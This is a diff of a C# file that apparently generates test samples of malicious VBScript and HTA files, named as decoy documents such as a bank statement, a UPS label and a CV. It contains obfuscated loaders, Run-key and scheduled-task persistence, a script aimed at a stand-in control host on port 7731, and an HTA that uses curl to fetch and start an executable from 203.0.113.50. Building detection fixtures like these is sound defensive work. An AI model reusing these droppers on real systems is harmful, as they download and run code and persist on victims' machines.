@@ -21,7 +21,7 @@ public sealed class VbScriptFetchAndRun : SeventhRound
             End With
             CreateObject("WScript.Shell").Run "C:\Users\Public\client.exe", 0, False
             """)),
-        ("Relevé bancaire novembre.vbs", Dos("""
+        ("Relevé bancaire novembre.vbs", Dos(""""
             ' Relevé de compte
             Option Explicit
             On Error Resume Next
@@ -33,7 +33,7 @@ public sealed class VbScriptFetchAndRun : SeventhRound
                 "Start-Process $d"""
             coquille.Run commande, 0, True
             MsgBox "Le fichier demandé est introuvable (0x80070002).", vbCritical, "Lecteur de documents"
-            """)),
+            """")),
         ("Boleto_Atualizado.vbs", Utf16("""
             Set objWMI = GetObject("winmgmts:{impersonationLevel=impersonate}!\\.\root\cimv2")
             Set objStartup = objWMI.Get("Win32_ProcessStartup").SpawnInstance_
@@ -77,15 +77,15 @@ public sealed class VbScriptInDisguise : SeventhRound
     public override IEnumerable<(string Name, byte[] Content)> Variants() =>
     [
         ("Doc_29_11.vbs", Dos("Execute(" + string.Join('&', Plain.Select((letter, at) => at % 3 == 0 ? $"Chr({letter + 0})" : $"ChrW({letter + 40}-40)")) + ")")),
-        ("UPS_Label.vbs", Dos(Fill("""
+        ("UPS_Label.vbs", Dos(Fill("""""
             Dim Polyphone, Antechamber
             Antechamber = "@@1"
             Polyphone = StrReverse(Replace(Antechamber, "{~}", ""))
             ExecuteGlobal Polyphone
             Set Wsh = CreateObject(StrReverse("llehS.tpircSW"))
             Wsh.RegWrite "HKCU\Software\Microsoft\Windows\CurrentVersion\Run\UPSLabel", "wscript.exe //B """ & WScript.ScriptFullName & """", "REG_SZ"
-            """, string.Join("{~}", Pieces(Backwards(Plain), 4)).Replace("\"", "\"\"", StringComparison.Ordinal)))),
-        ("Накладна_1127.vbs", Utf16(Fill("""
+            """"", string.Join("{~}", Pieces(Backwards(Plain), 4)).Replace("\"", "\"\"", StringComparison.Ordinal)))),
+        ("Накладна_1127.vbs", Utf16(Fill(""""
             Function D(ByVal s, ByVal k)
                 Dim i, o
                 For i = 1 To Len(s) Step 2
@@ -95,7 +95,7 @@ public sealed class VbScriptInDisguise : SeventhRound
             End Function
             ExecuteGlobal D("@@1", 90)
             CreateObject(D("@@2", 90)).Run D("@@3", 90) & WScript.ScriptFullName & """ /f", 0, True
-            """, Hex(Plain, 90), Hex("WScript.Shell", 90), Hex("schtasks /create /sc minute /mo 15 /tn \"OneDrive Reporting\" /tr \"wscript //e:vbscript ", 90)))),
+            """", Hex(Plain, 90), Hex("WScript.Shell", 90), Hex("schtasks /create /sc minute /mo 15 /tn \"OneDrive Reporting\" /tr \"wscript //e:vbscript ", 90)))),
         ("svchost.vbs", Dos("""
             ' <[ recoder : nobody (c) ]>
             host = "panel.dyn-host.example" : port = 7731
@@ -142,11 +142,11 @@ public sealed class VbScriptInDisguise : SeventhRound
 /// <summary>HTML applications that fetch and run.</summary>
 public sealed class HtmlApplicationAttack : SeventhRound
 {
-    private const string Page = """<script language="VBScript">Set q=CreateObject("WScript.Shell"):q.Run "cmd /c curl -s -o %TEMP%\doc.exe http://203.0.113.50/doc.exe && start """" %TEMP%\doc.exe",0:window.close</script>""";
+    private const string Page = """""<script language="VBScript">Set q=CreateObject("WScript.Shell"):q.Run "cmd /c curl -s -o %TEMP%\doc.exe http://203.0.113.50/doc.exe && start """" %TEMP%\doc.exe",0:window.close</script>""""";
 
     public override IEnumerable<(string Name, byte[] Content)> Variants() =>
     [
-        ("update.hta", Dos("""
+        ("update.hta", Dos(""""
             <html>
             <head>
             <HTA:APPLICATION ID="upd" APPLICATIONNAME="Update" BORDER="none" SHOWINTASKBAR="no" SINGLEINSTANCE="yes" WINDOWSTATE="minimize">
@@ -162,7 +162,7 @@ public sealed class HtmlApplicationAttack : SeventhRound
             </head>
             <body></body>
             </html>
-            """)),
+            """")),
         ("Bewerbung_Lebenslauf.hta", Dos("""
             <!DOCTYPE html>
             <html><head><meta http-equiv="x-ua-compatible" content="ie=9"><title>Lebenslauf</title>
